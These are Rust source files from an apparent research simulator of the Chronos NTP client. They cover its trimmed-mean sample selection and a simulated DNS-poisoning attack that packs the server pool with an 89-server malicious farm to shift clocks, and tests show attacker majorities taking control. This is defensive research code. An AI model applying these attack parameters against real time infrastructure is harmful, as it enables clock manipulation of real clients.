    /// Blind (Kaminsky-style) spoofing from `start`.
    BlindSpoof {
        /// When flooding begins.
        start: SimTime,
        /// Forged responses per attempt.
        burst: usize,
    },
    /// Oracle injection: the poison lands exactly at pool-generation round
    /// `round` (1-based). Used by the analytic experiments to decouple the
    /// pool-capture math from any particular poisoning mechanism.
    Oracle {
        /// The round whose response is replaced.
        round: usize,
    },
}

/// A complete attack description.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackPlan {
    /// The poisoning mechanism.
    pub strategy: PoisonStrategy,
    /// Malicious NTP servers advertised (paper: 89).
    pub farm_size: usize,
    /// TTL on poisoned records (paper: > 24 h).
    pub poison_ttl: u32,
    /// The time shift the malicious farm serves.
    pub shift: SimDuration,
    /// Sign of the shift (`true` = clocks pushed forward).
    pub shift_forward: bool,
}

impl AttackPlan {
    /// The paper's §IV attack: 89 records, TTL 86 401 s, poisoning landing
    /// at round 12, shifting the victim forward by `shift`.
    pub fn paper_default(shift: SimDuration) -> Self {
        AttackPlan {
            strategy: PoisonStrategy::Oracle { round: 12 },
            farm_size: 89,
            poison_ttl: POISON_TTL,
            shift,
            shift_forward: true,
        }
    }

    /// The signed shift in nanoseconds.
    pub fn shift_ns(&self) -> i64 {
        let ns = self.shift.as_nanos() as i64;
        if self.shift_forward {
            ns
        } else {
            -ns
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_default_matches_section_iv() {
        let plan = AttackPlan::paper_default(SimDuration::from_millis(500));
        assert_eq!(plan.farm_size, 89);
        assert_eq!(plan.poison_ttl, 86_401);
        assert!(matches!(
            plan.strategy,
            PoisonStrategy::Oracle { round: 12 }
        ));
        assert_eq!(plan.shift_ns(), 500_000_000);
    }

    #[test]
    fn backward_shift_is_negative() {
        let mut plan = AttackPlan::paper_default(SimDuration::from_millis(100));
        plan.shift_forward = false;
        assert_eq!(plan.shift_ns(), -100_000_000);
    }
}
