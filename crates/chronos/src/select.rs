//! Chronos' provably secure sample-selection algorithm (NDSS'18 §4.1).
//!
//! Order the m offset samples, discard the d lowest and d highest, and
//! accept the survivors' average only if (1) the survivors agree to within
//! ω and (2) the average stays inside the drift envelope. Reject otherwise —
//! after K rejections the client "panics" and queries the whole pool,
//! trimming a third from each end.
//!
//! Security intuition: as long as fewer than 2/3 of the *pool* is malicious,
//! a lying server's sample must either be trimmed or agree with honest ones.
//! The DSN paper's attack does not break this logic — it breaks the
//! assumption, by packing the pool with 2/3 attacker servers via DNS.

use serde::{Deserialize, Serialize};

/// Why a Chronos sample round was rejected.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RejectReason {
    /// Fewer than `2d + 1` samples arrived.
    TooFewSamples {
        /// Samples received.
        got: usize,
        /// Minimum required.
        needed: usize,
    },
    /// Surviving samples spread wider than ω.
    Disagreement {
        /// Observed max−min spread (ns).
        spread_ns: i64,
    },
    /// Survivor average outside the local-clock envelope.
    OutsideEnvelope {
        /// Observed average (ns).
        avg_ns: i64,
    },
}

/// Outcome of one Chronos selection round.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ChronosDecision {
    /// Update the clock by `correction_ns`.
    Accept {
        /// The accepted correction (survivors' mean offset, ns).
        correction_ns: i64,
        /// Number of surviving samples averaged.
        survivors: usize,
    },
    /// Resample (or panic after K rejections).
    Reject(RejectReason),
}

/// Runs Chronos selection over raw offset samples (nanoseconds, relative to
/// the local clock).
///
/// * `trim` — d, removed from each end after sorting.
/// * `omega_ns` — agreement bound for the survivors.
/// * `envelope_ns` — `ERR + drift·Δt`, the acceptable distance from the
///   local clock.
pub fn chronos_select(
    offsets_ns: &[i64],
    trim: usize,
    omega_ns: i64,
    envelope_ns: i64,
) -> ChronosDecision {
    let needed = 2 * trim + 1;
    if offsets_ns.len() < needed {
        return ChronosDecision::Reject(RejectReason::TooFewSamples {
            got: offsets_ns.len(),
            needed,
        });
    }
    let mut sorted = offsets_ns.to_vec();
    sorted.sort_unstable();
    let survivors = &sorted[trim..sorted.len() - trim];
    let spread = survivors[survivors.len() - 1] - survivors[0];
    if spread > omega_ns {
        return ChronosDecision::Reject(RejectReason::Disagreement { spread_ns: spread });
    }
    let avg = mean_i64(survivors);
    if avg.abs() > envelope_ns {
        return ChronosDecision::Reject(RejectReason::OutsideEnvelope { avg_ns: avg });
    }
    ChronosDecision::Accept {
        correction_ns: avg,
        survivors: survivors.len(),
    }
}

/// Panic-mode selection (NDSS'18 §4.2): over *all* pool samples, discard the
/// bottom and top third and average the middle. No ω or envelope check —
/// panic mode is the last resort.
///
/// Returns `None` when no samples are available.
pub fn panic_select(offsets_ns: &[i64]) -> Option<i64> {
    if offsets_ns.is_empty() {
        return None;
    }
    let mut sorted = offsets_ns.to_vec();
    sorted.sort_unstable();
    let third = sorted.len() / 3;
    let survivors = &sorted[third..sorted.len() - third];
    Some(mean_i64(survivors))
}

fn mean_i64(xs: &[i64]) -> i64 {
    debug_assert!(!xs.is_empty());
    let sum: i128 = xs.iter().map(|&x| i128::from(x)).sum();
    (sum / xs.len() as i128) as i64
}

#[cfg(test)]
mod tests {
    use super::*;

    const MS: i64 = 1_000_000;

    /// 15 honest samples scattered within a few ms of zero.
    fn honest_samples() -> Vec<i64> {
        (0..15).map(|i| (i as i64 - 7) * MS / 4).collect()
    }

    #[test]
    fn honest_round_is_accepted_near_zero() {
        match chronos_select(&honest_samples(), 5, 25 * MS, 100 * MS) {
            ChronosDecision::Accept {
                correction_ns,
                survivors,
            } => {
                assert_eq!(survivors, 5);
                assert!(correction_ns.abs() < MS, "got {correction_ns}");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn minority_liars_are_trimmed() {
        // 5 liars at +500 ms among 15: exactly d, all trimmed off the top.
        let mut samples = honest_samples();
        for s in samples.iter_mut().take(5) {
            *s = 500 * MS;
        }
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Accept { correction_ns, .. } => {
                assert!(correction_ns.abs() < 2 * MS, "liars had no effect");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn majority_but_disagreeing_liars_cause_rejection() {
        // 10 of 15 lie, but wildly inconsistently: survivors disagree > ω.
        let mut samples = honest_samples();
        for (i, s) in samples.iter_mut().enumerate().take(10) {
            *s = (300 + 40 * i as i64) * MS;
        }
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Reject(RejectReason::Disagreement { spread_ns }) => {
                assert!(spread_ns > 25 * MS);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn consistent_majority_within_envelope_wins() {
        // The attack configuration: ≥ m−d consistent liars shifting by an
        // amount inside the envelope — the survivors are all attacker
        // samples and the client accepts the shifted average.
        let mut samples = vec![0i64; 15];
        for (i, s) in samples.iter_mut().enumerate() {
            *s = if i < 10 { 80 * MS + (i as i64 % 3) * MS / 2 } else { 0 };
        }
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Accept { correction_ns, .. } => {
                assert!(
                    correction_ns > 78 * MS,
                    "attacker-controlled average: {correction_ns}"
                );
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn big_consistent_shift_is_caught_by_envelope() {
        // All 15 lie by +500 ms consistently: agreement passes but the
        // envelope check rejects (this is what forces the attacker to shift
        // gradually or wait for a cold client).
        let samples = vec![500 * MS; 15];
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Reject(RejectReason::OutsideEnvelope { avg_ns }) => {
                assert_eq!(avg_ns, 500 * MS);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn too_few_samples_rejected() {
        let samples = vec![0i64; 10]; // need 11 for d=5
        assert_eq!(
            chronos_select(&samples, 5, 25 * MS, 100 * MS),
            ChronosDecision::Reject(RejectReason::TooFewSamples {
                got: 10,
                needed: 11
            })
        );
    }

    #[test]
    fn unsorted_input_is_handled() {
        let samples = vec![
            3 * MS,
            -2 * MS,
            0,
            MS,
            -MS,
            2 * MS,
            -3 * MS,
            500 * MS, // outlier, trimmed
            -500 * MS,
            0,
            0,
        ];
        match chronos_select(&samples, 2, 25 * MS, 100 * MS) {
            ChronosDecision::Accept { correction_ns, .. } => {
                assert!(correction_ns.abs() < MS);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn panic_trims_thirds_and_averages() {
        // 44 honest (0) + 89 liars (+500 ms): panic over 133 samples trims
        // 44 from each side, leaving 45 all-malicious survivors.
        let mut offsets = vec![0i64; 44];
        offsets.extend(vec![500 * MS; 89]);
        let avg = panic_select(&offsets).unwrap();
        assert_eq!(avg, 500 * MS, "attacker controls panic mode at 2/3");
    }

    #[test]
    fn panic_with_honest_majority_is_safe() {
        // 89 honest + 44 liars: the middle third is all honest.
        let mut offsets = vec![0i64; 89];
        offsets.extend(vec![500 * MS; 44]);
        let avg = panic_select(&offsets).unwrap();
        assert_eq!(avg, 0);
    }

    #[test]
    fn panic_exactly_at_two_thirds_boundary() {
        // With attacker just below 2/3, honest samples survive the trim and
        // drag the average down.
        let mut offsets = vec![0i64; 45];
        offsets.extend(vec![500 * MS; 88]); // 88/133 = 0.6617 < 2/3
        let avg = panic_select(&offsets).unwrap();
        assert!(avg < 500 * MS, "attacker no longer fully controls: {avg}");
    }

    #[test]
    fn panic_edge_cases() {
        assert_eq!(panic_select(&[]), None);
        assert_eq!(panic_select(&[7 * MS]), Some(7 * MS));
        assert_eq!(panic_select(&[MS, 3 * MS]), Some(2 * MS));
    }

    #[test]
    fn envelope_zero_accepts_only_zero_average() {
        let samples = vec![0i64; 11];
        assert!(matches!(
            chronos_select(&samples, 5, 25 * MS, 0),
            ChronosDecision::Accept { .. }
        ));
        let shifted = vec![MS; 11];
        assert!(matches!(
            chronos_select(&shifted, 5, 25 * MS, 0),
            ChronosDecision::Reject(RejectReason::OutsideEnvelope { .. })
        ));
    }
}
