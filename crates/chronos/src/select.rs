//! Chronos' provably secure sample-selection algorithm (NDSS'18 §4.1).
//!
//! Order the m offset samples, discard the d lowest and d highest, and
//! accept the survivors' average only if (1) the survivors agree to within
//! ω and (2) the average stays inside the drift envelope. Reject otherwise —
//! after K rejections the client "panics" and queries the whole pool,
//! trimming a third from each end.
//!
//! Security intuition: as long as fewer than 2/3 of the *pool* is malicious,
//! a lying server's sample must either be trimmed or agree with honest ones.
//! The DSN paper's attack does not break this logic — it breaks the
//! assumption, by packing the pool with 2/3 attacker servers via DNS.
//!
//! # Hot path
//!
//! Selection runs once per poll round per simulated client, which makes it
//! (with the trial dispatcher) the inner loop of every Monte-Carlo sweep.
//! [`chronos_select_with`] / [`panic_select_with`] therefore:
//!
//! * take a caller-owned [`SelectScratch`] reused across rounds, so the
//!   steady state performs **zero heap allocations**;
//! * replace the full `sort_unstable` with two `select_nth_unstable`
//!   partitions (O(n) instead of O(n log n)) — the decision only needs the
//!   trimmed set's min, max and sum, all of which are order-free;
//! * accumulate the survivor sum in one pass interleaved with min/max.
//!
//! The original sort-based implementation is retained in [`mod@reference`] and
//! property-tested to produce byte-identical decisions.

use serde::{Deserialize, Serialize};

/// Why a Chronos sample round was rejected.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RejectReason {
    /// Fewer than `2d + 1` samples arrived.
    TooFewSamples {
        /// Samples received.
        got: usize,
        /// Minimum required.
        needed: usize,
    },
    /// Surviving samples spread wider than ω.
    Disagreement {
        /// Observed max−min spread (ns).
        spread_ns: i64,
    },
    /// Survivor average outside the local-clock envelope.
    OutsideEnvelope {
        /// Observed average (ns).
        avg_ns: i64,
    },
}

/// Outcome of one Chronos selection round.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ChronosDecision {
    /// Update the clock by `correction_ns`.
    Accept {
        /// The accepted correction (survivors' mean offset, ns).
        correction_ns: i64,
        /// Number of surviving samples averaged.
        survivors: usize,
    },
    /// Resample (or panic after K rejections).
    Reject(RejectReason),
}

/// Reusable working memory for the selection hot path.
///
/// Holds the partition buffer that [`chronos_select_with`] and
/// [`panic_select_with`] scramble; reuse one scratch across rounds and the
/// hot path stops allocating once the buffer has grown to the largest round
/// seen (it only ever grows — `clear` keeps capacity).
#[derive(Debug, Default, Clone)]
pub struct SelectScratch {
    buf: Vec<i64>,
}

impl SelectScratch {
    /// An empty scratch (first use allocates).
    pub fn new() -> Self {
        SelectScratch::default()
    }

    /// A scratch pre-sized for rounds of up to `n` samples, so even the
    /// first selection allocates nothing.
    pub fn with_capacity(n: usize) -> Self {
        SelectScratch {
            buf: Vec::with_capacity(n),
        }
    }

    /// Current capacity in samples.
    pub fn capacity(&self) -> usize {
        self.buf.capacity()
    }

    /// Copies `samples` into the buffer, reusing existing capacity.
    fn load(&mut self, samples: &[i64]) -> &mut [i64] {
        self.buf.clear();
        self.buf.extend_from_slice(samples);
        &mut self.buf
    }
}

/// Runs Chronos selection over raw offset samples (nanoseconds, relative to
/// the local clock), without requiring a caller-provided scratch.
///
/// Allocates a fresh scratch per call; loops should hold a
/// [`SelectScratch`] and call [`chronos_select_with`] instead.
///
/// * `trim` — d, removed from each end after ordering.
/// * `omega_ns` — agreement bound for the survivors.
/// * `envelope_ns` — `ERR + drift·Δt`, the acceptable distance from the
///   local clock.
pub fn chronos_select(
    offsets_ns: &[i64],
    trim: usize,
    omega_ns: i64,
    envelope_ns: i64,
) -> ChronosDecision {
    let mut scratch = SelectScratch::with_capacity(offsets_ns.len());
    chronos_select_with(&mut scratch, offsets_ns, trim, omega_ns, envelope_ns)
}

/// [`chronos_select`] reusing caller-owned scratch memory: the hot path.
///
/// Performs zero heap allocations when `scratch` already has capacity for
/// `offsets_ns.len()` samples.
pub fn chronos_select_with(
    scratch: &mut SelectScratch,
    offsets_ns: &[i64],
    trim: usize,
    omega_ns: i64,
    envelope_ns: i64,
) -> ChronosDecision {
    let needed = 2 * trim + 1;
    if offsets_ns.len() < needed {
        return ChronosDecision::Reject(RejectReason::TooFewSamples {
            got: offsets_ns.len(),
            needed,
        });
    }
    let survivors = offsets_ns.len() - 2 * trim;
    let (min, max, sum) = if trim <= TRIM_SCAN_MAX {
        // Small trim (the Chronos configuration, d ≈ m/3 of a 15-sample
        // round): one pass tracking the d+1 smallest and largest in stack
        // arrays — no copy, no permutation, no allocation ever.
        trim_scan(offsets_ns, trim)
    } else {
        let buf = scratch.load(offsets_ns);
        let middle = trim_partition(buf, trim, trim);
        scan(middle)
    };
    let spread = max - min;
    if spread > omega_ns {
        return ChronosDecision::Reject(RejectReason::Disagreement { spread_ns: spread });
    }
    let avg = mean_i64_parts(sum, survivors);
    if avg.abs() > envelope_ns {
        return ChronosDecision::Reject(RejectReason::OutsideEnvelope { avg_ns: avg });
    }
    ChronosDecision::Accept {
        correction_ns: avg,
        survivors,
    }
}

/// Largest trim handled by the single-pass [`trim_scan`] tracker; beyond
/// it (e.g. panic mode's n/3) the partial-selection path is cheaper.
const TRIM_SCAN_MAX: usize = 16;

/// Single-pass trimmed scan: returns the min, max and sum of the multiset
/// that remains after discarding the `d` smallest and `d` largest of `xs`,
/// without reordering or copying anything.
///
/// Tracks the `d+1` smallest (sorted ascending) and `d+1` largest values in
/// bounded stack arrays: the largest of the low tracker is the surviving
/// minimum, the smallest of the high tracker the surviving maximum, and the
/// survivor sum is the total minus both trimmed tails.
fn trim_scan(xs: &[i64], d: usize) -> (i64, i64, i128) {
    let m = d + 1;
    debug_assert!(m <= TRIM_SCAN_MAX + 1 && xs.len() > 2 * d);
    let mut low = [i64::MAX; TRIM_SCAN_MAX + 1];
    let mut high = [i64::MIN; TRIM_SCAN_MAX + 1];
    let mut sum: i128 = 0;
    for &x in xs {
        sum += i128::from(x);
        if x < low[m - 1] {
            // Insert into the ascending low tracker, dropping its largest.
            let mut i = m - 1;
            while i > 0 && low[i - 1] > x {
                low[i] = low[i - 1];
                i -= 1;
            }
            low[i] = x;
        }
        if x > high[0] {
            // Insert into the ascending high tracker, dropping its smallest.
            let mut i = 0;
            while i + 1 < m && high[i + 1] < x {
                high[i] = high[i + 1];
                i += 1;
            }
            high[i] = x;
        }
    }
    let trimmed_low: i128 = low[..d].iter().map(|&v| i128::from(v)).sum();
    let trimmed_high: i128 = high[1..m].iter().map(|&v| i128::from(v)).sum();
    (low[m - 1], high[0], sum - trimmed_low - trimmed_high)
}

/// Panic-mode selection (NDSS'18 §4.2): over *all* pool samples, discard the
/// bottom and top third and average the middle. No ω or envelope check —
/// panic mode is the last resort.
///
/// Returns `None` when no samples are available. Allocating convenience
/// wrapper over [`panic_select_with`].
pub fn panic_select(offsets_ns: &[i64]) -> Option<i64> {
    let mut scratch = SelectScratch::with_capacity(offsets_ns.len());
    panic_select_with(&mut scratch, offsets_ns)
}

/// [`panic_select`] reusing caller-owned scratch memory: the hot path.
pub fn panic_select_with(scratch: &mut SelectScratch, offsets_ns: &[i64]) -> Option<i64> {
    if offsets_ns.is_empty() {
        return None;
    }
    let third = offsets_ns.len() / 3;
    let buf = scratch.load(offsets_ns);
    let survivors = trim_partition(buf, third, third);
    let (_, _, sum) = scan(survivors);
    Some(mean_i64_parts(sum, survivors.len()))
}

/// Partitions `buf` so that the `low` smallest elements occupy the front,
/// the `high` largest the back, and returns the middle — the multiset a
/// full sort would leave in `buf[low..len - high]`, without ordering it.
///
/// Two O(n) `select_nth_unstable` passes instead of an O(n log n) sort.
fn trim_partition(buf: &mut [i64], low: usize, high: usize) -> &[i64] {
    let len = buf.len();
    debug_assert!(low + high < len, "trim would consume every sample");
    if low > 0 {
        // Element `low` lands in sorted position; everything below it moves
        // in front.
        buf.select_nth_unstable(low);
    }
    let tail = &mut buf[low..];
    if high > 0 {
        // Largest survivor lands at the end of the survivor range; the top
        // `high` elements move behind it.
        let k = tail.len() - high - 1;
        tail.select_nth_unstable(k);
    }
    &buf[low..len - high]
}

/// Single-pass min / max / running sum over the survivors.
fn scan(xs: &[i64]) -> (i64, i64, i128) {
    debug_assert!(!xs.is_empty());
    let mut min = i64::MAX;
    let mut max = i64::MIN;
    let mut sum: i128 = 0;
    for &x in xs {
        min = min.min(x);
        max = max.max(x);
        sum += i128::from(x);
    }
    (min, max, sum)
}

/// Mean of `n` samples summing to `sum`, rounded half away from zero.
///
/// The seed implementation divided with truncation toward zero, which
/// systematically biased negative-offset averages upward (e.g. the mean of
/// `[-3, -4]` became `-3` while `[3, 4]` became `3` — an asymmetric ½ ns).
/// Rounding half away from zero keeps positive and negative offsets
/// symmetric.
fn mean_i64_parts(sum: i128, n: usize) -> i64 {
    debug_assert!(n > 0);
    let n = n as i128;
    let q = sum / n;
    let r = sum % n;
    let adjust = if 2 * r.abs() >= n {
        if sum < 0 {
            -1
        } else {
            1
        }
    } else {
        0
    };
    (q + adjust) as i64
}

fn mean_i64(xs: &[i64]) -> i64 {
    debug_assert!(!xs.is_empty());
    let sum: i128 = xs.iter().map(|&x| i128::from(x)).sum();
    mean_i64_parts(sum, xs.len())
}

/// The retained sort-based implementation, kept as the correctness oracle
/// for the optimized hot path (property-tested to be decision-identical)
/// and as the comparison baseline in `e12_montecarlo_dispatch`.
pub mod reference {
    use super::{mean_i64, ChronosDecision, RejectReason};

    /// Sort-based [`super::chronos_select`]: allocates and fully sorts.
    pub fn chronos_select_sorted(
        offsets_ns: &[i64],
        trim: usize,
        omega_ns: i64,
        envelope_ns: i64,
    ) -> ChronosDecision {
        let needed = 2 * trim + 1;
        if offsets_ns.len() < needed {
            return ChronosDecision::Reject(RejectReason::TooFewSamples {
                got: offsets_ns.len(),
                needed,
            });
        }
        let mut sorted = offsets_ns.to_vec();
        sorted.sort_unstable();
        let survivors = &sorted[trim..sorted.len() - trim];
        let spread = survivors[survivors.len() - 1] - survivors[0];
        if spread > omega_ns {
            return ChronosDecision::Reject(RejectReason::Disagreement { spread_ns: spread });
        }
        let avg = mean_i64(survivors);
        if avg.abs() > envelope_ns {
            return ChronosDecision::Reject(RejectReason::OutsideEnvelope { avg_ns: avg });
        }
        ChronosDecision::Accept {
            correction_ns: avg,
            survivors: survivors.len(),
        }
    }

    /// Sort-based [`super::panic_select`].
    pub fn panic_select_sorted(offsets_ns: &[i64]) -> Option<i64> {
        if offsets_ns.is_empty() {
            return None;
        }
        let mut sorted = offsets_ns.to_vec();
        sorted.sort_unstable();
        let third = sorted.len() / 3;
        let survivors = &sorted[third..sorted.len() - third];
        Some(mean_i64(survivors))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const MS: i64 = 1_000_000;

    /// 15 honest samples scattered within a few ms of zero.
    fn honest_samples() -> Vec<i64> {
        (0..15).map(|i| (i as i64 - 7) * MS / 4).collect()
    }

    #[test]
    fn honest_round_is_accepted_near_zero() {
        match chronos_select(&honest_samples(), 5, 25 * MS, 100 * MS) {
            ChronosDecision::Accept {
                correction_ns,
                survivors,
            } => {
                assert_eq!(survivors, 5);
                assert!(correction_ns.abs() < MS, "got {correction_ns}");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn minority_liars_are_trimmed() {
        // 5 liars at +500 ms among 15: exactly d, all trimmed off the top.
        let mut samples = honest_samples();
        for s in samples.iter_mut().take(5) {
            *s = 500 * MS;
        }
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Accept { correction_ns, .. } => {
                assert!(correction_ns.abs() < 2 * MS, "liars had no effect");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn majority_but_disagreeing_liars_cause_rejection() {
        // 10 of 15 lie, but wildly inconsistently: survivors disagree > ω.
        let mut samples = honest_samples();
        for (i, s) in samples.iter_mut().enumerate().take(10) {
            *s = (300 + 40 * i as i64) * MS;
        }
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Reject(RejectReason::Disagreement { spread_ns }) => {
                assert!(spread_ns > 25 * MS);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn consistent_majority_within_envelope_wins() {
        // The attack configuration: ≥ m−d consistent liars shifting by an
        // amount inside the envelope — the survivors are all attacker
        // samples and the client accepts the shifted average.
        let mut samples = vec![0i64; 15];
        for (i, s) in samples.iter_mut().enumerate() {
            *s = if i < 10 {
                80 * MS + (i as i64 % 3) * MS / 2
            } else {
                0
            };
        }
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Accept { correction_ns, .. } => {
                assert!(
                    correction_ns > 78 * MS,
                    "attacker-controlled average: {correction_ns}"
                );
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn big_consistent_shift_is_caught_by_envelope() {
        // All 15 lie by +500 ms consistently: agreement passes but the
        // envelope check rejects (this is what forces the attacker to shift
        // gradually or wait for a cold client).
        let samples = vec![500 * MS; 15];
        match chronos_select(&samples, 5, 25 * MS, 100 * MS) {
            ChronosDecision::Reject(RejectReason::OutsideEnvelope { avg_ns }) => {
                assert_eq!(avg_ns, 500 * MS);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn too_few_samples_rejected() {
        let samples = vec![0i64; 10]; // need 11 for d=5
        assert_eq!(
            chronos_select(&samples, 5, 25 * MS, 100 * MS),
            ChronosDecision::Reject(RejectReason::TooFewSamples {
                got: 10,
                needed: 11
            })
        );
    }

    #[test]
    fn unsorted_input_is_handled() {
        let samples = vec![
            3 * MS,
            -2 * MS,
            0,
            MS,
            -MS,
            2 * MS,
            -3 * MS,
            500 * MS, // outlier, trimmed
            -500 * MS,
            0,
            0,
        ];
        match chronos_select(&samples, 2, 25 * MS, 100 * MS) {
            ChronosDecision::Accept { correction_ns, .. } => {
                assert!(correction_ns.abs() < MS);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn scratch_is_reusable_and_input_is_untouched() {
        let samples = honest_samples();
        let before = samples.clone();
        let mut scratch = SelectScratch::new();
        let a = chronos_select_with(&mut scratch, &samples, 5, 25 * MS, 100 * MS);
        let b = chronos_select_with(&mut scratch, &samples, 5, 25 * MS, 100 * MS);
        assert_eq!(a, b, "scratch reuse must not change decisions");
        assert_eq!(samples, before, "input samples are not scrambled");
        assert_eq!(
            panic_select_with(&mut scratch, &samples),
            panic_select(&samples),
        );
    }

    #[test]
    fn mean_rounds_half_away_from_zero() {
        // Regression for the truncation bias: negative averages used to be
        // pulled toward zero.
        assert_eq!(mean_i64(&[-3, -4]), -4);
        assert_eq!(mean_i64(&[3, 4]), 4);
        assert_eq!(mean_i64(&[-1, -2, -3]), -2);
        assert_eq!(mean_i64(&[-1, 0]), -1, "-0.5 rounds away from zero");
        assert_eq!(mean_i64(&[1, 0]), 1);
        assert_eq!(mean_i64(&[-10, -11, -13]), -11, "-11.33 rounds to -11");
        assert_eq!(mean_i64(&[7]), 7);
    }

    #[test]
    fn negative_offsets_average_symmetrically() {
        // End-to-end: mirrored inputs yield mirrored corrections.
        let pos = vec![3 * MS, 3 * MS, 3 * MS + 1, 4 * MS, 2 * MS];
        let neg: Vec<i64> = pos.iter().map(|x| -x).collect();
        let a = chronos_select(&pos, 1, 25 * MS, 100 * MS);
        let b = chronos_select(&neg, 1, 25 * MS, 100 * MS);
        match (a, b) {
            (
                ChronosDecision::Accept {
                    correction_ns: ca, ..
                },
                ChronosDecision::Accept {
                    correction_ns: cb, ..
                },
            ) => assert_eq!(ca, -cb, "asymmetric rounding: {ca} vs {cb}"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn panic_trims_thirds_and_averages() {
        // 44 honest (0) + 89 liars (+500 ms): panic over 133 samples trims
        // 44 from each side, leaving 45 all-malicious survivors.
        let mut offsets = vec![0i64; 44];
        offsets.extend(vec![500 * MS; 89]);
        let avg = panic_select(&offsets).unwrap();
        assert_eq!(avg, 500 * MS, "attacker controls panic mode at 2/3");
    }

    #[test]
    fn panic_with_honest_majority_is_safe() {
        // 89 honest + 44 liars: the middle third is all honest.
        let mut offsets = vec![0i64; 89];
        offsets.extend(vec![500 * MS; 44]);
        let avg = panic_select(&offsets).unwrap();
        assert_eq!(avg, 0);
    }

    #[test]
    fn panic_exactly_at_two_thirds_boundary() {
        // With attacker just below 2/3, honest samples survive the trim and
        // drag the average down.
        let mut offsets = vec![0i64; 45];
        offsets.extend(vec![500 * MS; 88]); // 88/133 = 0.6617 < 2/3
        let avg = panic_select(&offsets).unwrap();
        assert!(avg < 500 * MS, "attacker no longer fully controls: {avg}");
    }

    #[test]
    fn panic_edge_cases() {
        assert_eq!(panic_select(&[]), None);
        assert_eq!(panic_select(&[7 * MS]), Some(7 * MS));
        assert_eq!(panic_select(&[MS, 3 * MS]), Some(2 * MS));
    }

    #[test]
    fn envelope_zero_accepts_only_zero_average() {
        let samples = vec![0i64; 11];
        assert!(matches!(
            chronos_select(&samples, 5, 25 * MS, 0),
            ChronosDecision::Accept { .. }
        ));
        let shifted = vec![MS; 11];
        assert!(matches!(
            chronos_select(&shifted, 5, 25 * MS, 0),
            ChronosDecision::Reject(RejectReason::OutsideEnvelope { .. })
        ));
    }

    #[test]
    fn matches_reference_on_assorted_inputs() {
        let cases: Vec<(Vec<i64>, usize)> = vec![
            (honest_samples(), 5),
            (honest_samples(), 1),
            ((0..40).map(|i| ((i * 37) % 41 - 20) * MS).collect(), 13),
            (vec![-MS; 11], 5),
            (vec![i64::MIN / 4, 0, i64::MAX / 4, 1, -1, 2, -2], 2),
        ];
        for (samples, trim) in cases {
            let mut scratch = SelectScratch::new();
            assert_eq!(
                chronos_select_with(&mut scratch, &samples, trim, 25 * MS, 100 * MS),
                reference::chronos_select_sorted(&samples, trim, 25 * MS, 100 * MS),
                "diverged on {samples:?} trim {trim}"
            );
            assert_eq!(
                panic_select_with(&mut scratch, &samples),
                reference::panic_select_sorted(&samples),
            );
        }
    }
}
