//! The Chronos stepping state machine, detached from the network.
//!
//! [`crate::client::ChronosClient`] couples three things: a netsim `Node`
//! (packet I/O, timers), the DNS/NTP exchanges, and the *decision state
//! machine* of the NDSS'18 paper — phases, retry accounting, the drift
//! envelope, and the accept/reject/panic transitions around
//! [`crate::select`]. This module is that third piece alone, operating on
//! **borrowed state** so callers choose the memory layout:
//!
//! * the packet-level client keeps one [`Phase`]/[`ChronosStats`]/retry
//!   counter per node and borrows them per round;
//! * the population engine (`fleet` crate) keeps struct-of-arrays columns
//!   for millions of clients and borrows one lane at a time — no `Node`,
//!   no `IpStack`, no per-client allocation.
//!
//! The functions here are the *entire* shared logic: a round concluded via
//! [`conclude_sample_round`] / [`conclude_panic_round`] updates phase,
//! retries, stats and the envelope anchor exactly the way the packet-level
//! client always did (the client now delegates to them), so the two
//! implementations cannot drift apart.
//!
//! The same borrowed-state idea covers the *other* client kind the paper
//! compares against: [`conclude_plain_round`] is the plain-NTP analogue,
//! delegating to [`ntplab::combine::ntpd_pipeline`] — the exact
//! intersection → cluster → combine code the packet-level
//! [`ntplab::plain::PlainNtpClient`] runs — so a heterogeneous fleet's two
//! client kinds share one decision API (this module) and one
//! implementation per kind (this crate's selection, `ntplab`'s pipeline).
//!
//! # Examples
//!
//! Stepping one Chronos sample round over borrowed state — the exact call
//! both the packet-level client and a fleet's struct-of-arrays lane make:
//!
//! ```
//! use chronos::config::ChronosConfig;
//! use chronos::core::{conclude_sample_round, ChronosStats, CoreState, Phase, RoundOutcome};
//! use chronos::select::SelectScratch;
//! use netsim::time::SimTime;
//!
//! let config = ChronosConfig::default();
//! // The borrowed per-client state: one SoA lane or one client's fields.
//! let (mut phase, mut retries) = (Phase::Syncing, 0u32);
//! let (mut last_update, mut stats) = (None, ChronosStats::default());
//! let mut scratch = SelectScratch::new();
//!
